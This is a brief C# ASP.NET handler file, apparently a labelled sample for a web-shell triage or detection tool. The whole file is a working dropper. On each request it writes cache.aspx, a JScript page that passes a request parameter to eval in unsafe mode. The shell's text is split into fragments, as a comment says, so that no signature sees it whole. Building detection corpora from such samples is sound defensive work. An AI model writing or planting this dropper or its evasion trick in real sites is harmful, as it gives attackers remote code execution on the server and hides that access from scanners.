<%@ WebHandler Language="C#" Class="Drop" %>
// triage-expect: triage_aspx_shell_dropper
using System.IO;
using System.Web;
public class Drop : IHttpHandler {
    public void ProcessRequest(HttpContext ctx) {
        // the second shell's text, cut so no signature sees it whole
        string body = "<%@ Page Language=\"JScript\"%" + "><%eval(Request.Item" + "[\"placeholder\"]" + ",\"uns" + "afe\");%>";
        File.WriteAllText(ctx.Server.MapPath("cache.aspx"), body);
    }
    public bool IsReusable { get { return false; } }
}
